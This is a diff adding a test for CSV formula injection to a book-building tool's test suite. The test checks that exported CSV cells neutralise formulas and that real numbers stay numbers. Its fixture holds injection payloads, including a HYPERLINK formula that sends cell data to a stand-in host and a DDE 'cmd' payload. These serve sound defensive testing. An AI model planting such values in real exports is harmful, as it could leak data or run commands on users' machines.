@@ -283,3 +283,58 @@ def test_every_processed_table_is_offered_for_download(built):
     for f in sorted(paths.processed.iterdir()):
         if f.is_file():
             assert re.search(rf'href="\.\./_downloads/[0-9a-f]+/{re.escape(f.name)}"', page), f.name
+
+
+# --- defect 8: no spreadsheet formula in any CSV offered for download -------------------
+
+FORMULA_FIELDS = {"title": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+                  "outlet": "+SUM(1,2)", "notes": "@cmd|' /C calc'!A0", "dated-by": "-2+3"}
+_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
+
+
+def offered_csvs(paths) -> dict:
+    """Every CSV a page of the published book links to: file → the pages that offer it."""
+    from pathlib import Path
+    from urllib.parse import unquote, urlsplit
+
+    root = paths.html.resolve()
+    found: dict = {}
+    for page in sorted(root.rglob("*.html")):
+        for href in re.findall(r'href="([^"#?]+\.csv)"', page.read_text(encoding="utf-8")):
+            if urlsplit(href).scheme:
+                continue
+            target = (page.parent / unquote(href)).resolve()
+            assert target.is_file() and root in target.parents, (page, href)
+            found.setdefault(target, []).append(page.relative_to(root))
+    return found
+
+
+def test_no_csv_offered_starts_a_cell_with_a_formula(built, tmp_path):
+    import csv
+
+    paths, _ = built
+    src = tmp_path / "formula.txt"
+    src.write_text("أعلنت الشرطة إغلاق 300 قناة على تيليغرام.\n", encoding="utf-8")
+    proc = run_cli("add-article", str(src), "--lang", "ar", "--date", "2019-11",
+                   *[f"--{k}={v}" for k, v in FORMULA_FIELDS.items()], root=paths.root)
+    assert proc.returncode == 0, proc.stderr
+    proc = run_cli("build", root=paths.root)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    offered = offered_csvs(paths)
+    names = {p.name for p in offered}
+    # every processed table and every figure's table is among them
+    assert {p.name for p in paths.processed.glob("*.csv")} <= names
+    assert {p.name for p in (paths.book / "figures").glob("*.csv")} <= names
+    neutralised, numbers = [], []
+    for path in offered:
+        with open(path, encoding="utf-8", newline="") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                        assert _NUMBER.match(cell), (path.name, cell)   # a number stays a number
+                        numbers.append(cell)
+                    elif cell[:2] in {"'" + c for c in "=+-@\t\r"}:
+                        neutralised.append(cell)
+    for value in FORMULA_FIELDS.values():
+        assert "'" + value in neutralised, value                     # shown as text, kept whole
+    assert "-95.5" in numbers                                         # facts.csv keeps its number
